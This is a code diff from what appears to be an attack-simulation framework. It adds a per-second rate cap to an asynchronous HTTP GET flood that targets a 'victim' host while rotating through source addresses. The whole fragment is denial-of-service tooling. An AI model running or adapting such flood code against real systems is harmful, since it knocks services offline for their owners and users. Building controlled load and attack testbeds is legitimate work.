@@ -29,7 +29,7 @@ ANSWER_S = 5.0
 
 
 def flood(attack: Attack, site: Site, run: Path, used: Sequence[str], count: int) -> None:
-    """Send so many GETs to the victim, `together` at a time, from the addresses in turn, for `seconds` at most."""
+    """Send so many GETs to the victim, `together` at a time, `rate` a second at most, for `seconds` at most."""
     victim, port = instance.target(attack, site), instance.whole(attack, "port")
     path, together = instance.text(attack, "path"), instance.whole(attack, "together")
     instance.note(
@@ -43,12 +43,15 @@ def flood(attack: Attack, site: Site, run: Path, used: Sequence[str], count: int
 
 async def _flood(attack: Attack, victim: str, where: tuple[int, str], used: Sequence[str], count: int) -> int:
     port, path = where
-    todo = iter(zip(itertools.cycle(used), _requests(attack.seed, victim, path, count), strict=False))
-    answered = 0
+    todo = enumerate(zip(itertools.cycle(used), _requests(attack.seed, victim, path, count), strict=False))
+    answered, rate = 0, instance.whole(attack, "rate")
+    loop = asyncio.get_running_loop()
+    start_s = loop.time()
 
     async def worker() -> None:
         nonlocal answered
-        for address, request in todo:
+        for number, (address, request) in todo:
+            await asyncio.sleep(max(start_s + number / rate - loop.time(), 0.0))
             with contextlib.suppress(OSError, TimeoutError):
                 async with asyncio.timeout(ANSWER_S):
                     answered += await _ask(address, victim, port, request)
